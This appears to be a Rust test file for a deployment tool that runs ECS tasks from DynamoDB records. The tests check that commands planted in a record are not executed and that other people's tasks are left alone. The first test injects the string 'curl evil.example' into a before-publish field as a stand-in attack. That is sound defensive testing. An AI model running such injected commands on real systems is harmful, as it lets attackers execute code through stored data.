//! What somebody writes into a row makes nothing run, and stops nothing.

use eden_core::publish_task::{BEFORE_PUBLISH, Run, Runs};
use eden_core::request::Wishes;
use serde_json::json;
use testbed::Kind;

use super::MIGRATE;
use super::attempts::change;
use crate::planted::BY_HAND;
use crate::stage::{Stage, id};

#[tokio::test]
async fn commands_in_a_row_are_not_run() {
    let stage = Stage::on(Kind::Moto).await;
    let tasks = stage.proxy.run_tasks();
    stage.created("foo").await;
    let mut planted = serde_json::to_value(stage.recorded("foo").await).unwrap();
    planted["given"][BEFORE_PUBLISH] = json!("curl evil.example");
    planted["settings"][BEFORE_PUBLISH] = json!("curl evil.example");
    let value = aws_sdk_dynamodb::types::AttributeValue::S(planted.to_string());
    let record = [("record", value)];
    stage.world.set_in_row("foo", &record).await.unwrap();
    let record = stage.recorded("foo").await;
    let plain = stage.request("foo", "v2");
    // As the command line and the API ask, who say nothing of tasks.
    let wishes = Wishes {
        image: plain.image.clone(),
        given: [].into(),
        overrides: eden_core::overrides::OverrideWishes::default(),
        environment: [].into(),
        desired_count: None,
        lifetime: None,
        pull_request: plain.pull_request.clone(),
        protect: None,
        wait: false,
        adopt: false,
        relocate: false,
        tasks: plain.tasks,
    };
    let request = wishes.request(id("foo"), plain.settings, Some(record));
    stage.create(&request.unwrap()).await.unwrap();
    assert_eq!(tasks.ran(), []);
}

#[tokio::test]
async fn no_command_is_written_into_a_row() {
    let mut stage = Stage::on(Kind::Moto).await;
    stage.migrates();
    stage.created("foo").await;
    let found = stage.world.environment("foo").await.unwrap();
    let record = crate::exact::text(&found.rows[0], "record");
    assert!(record.contains("\"runs\""), "{record}");
    assert!(!record.contains("db:prepare"), "{record}");
}

/// A row that names somebody else's revision, or task, has neither run nor stopped.
#[tokio::test]
async fn revisions_and_tasks_of_others_are_left_alone() {
    let mut stage = Stage::on(Kind::Moto).await;
    stage.created("foo").await;
    let tasks = stage.migrates();
    let foreign = stage.plant_revision("prod-billing", BY_HAND).await;
    let hash = eden_core::publish_task::Prepared {
        command: MIGRATE.split(' ').map(str::to_owned).collect(),
        container: "app".into(),
    }
    .hash();
    change(&stage, "foo", |record| {
        let arn =
            "arn:aws:ecs:ap-northeast-1:123456789012:task/dev/00000000000000000000000000000001";
        let run = Run {
            task: Some(arn.to_owned()),
            ..Run::new(hash, "app".into(), 1)
        };
        record.runs = Some(Runs {
            revision: foreign.clone(),
            is_open: true,
            each: vec![run],
        });
    })
    .await;
    let error = stage.create(&stage.request("foo", "v2")).await;
    let error = error.unwrap_err();
    assert!(
        matches!(error, eden_core::Error::TaskUnknown { .. }),
        "{error}"
    );
    assert_eq!(tasks.ran(), []);
    assert_eq!(stage.proxy.count("ecs", "StopTask"), 0);
    // Who knows better goes on.
    let mut request = stage.request("foo", "v2");
    request.tasks.rerun = true;
    stage.create(&request).await.unwrap();
    let ran = tasks.ran();
    assert_eq!(ran.len(), 1);
    assert_ne!(ran[0].definition, foreign);
}
